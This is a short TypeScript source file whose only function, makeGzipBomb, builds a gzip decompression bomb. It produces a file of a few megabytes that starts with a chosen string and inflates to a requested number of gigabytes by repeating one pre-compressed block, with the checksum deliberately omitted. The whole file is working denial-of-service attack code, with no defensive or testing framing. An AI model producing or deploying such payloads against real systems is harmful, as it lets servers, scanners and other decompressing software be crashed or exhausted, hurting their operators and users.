import { constants, deflateRawSync } from 'node:zlib';

const BLOCK_BYTES = 16 * 1024 * 1024;
/** Of a gzip file without name and time (RFC 1952 §2.3). */
const HEADER = Uint8Array.of(0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 255);

/** A gzip file of a few megabytes that begins with `start` and goes on for `gigabytes`. */
export function makeGzipBomb(start: string, gigabytes: number): Uint8Array {
  // Each block ends at a byte and needs nothing of those before it, so one serves many times.
  const pack = (bytes: Uint8Array) =>
    deflateRawSync(bytes, { finishFlush: constants.Z_FULL_FLUSH });
  const block = pack(new Uint8Array(BLOCK_BYTES).fill(0x78));
  const times = (gigabytes * 1024 ** 3) / BLOCK_BYTES;
  // The checksum behind the last block is left out: nobody may come that far.
  return Buffer.concat([HEADER, pack(Buffer.from(start)), ...new Array(times).fill(block)]);
}
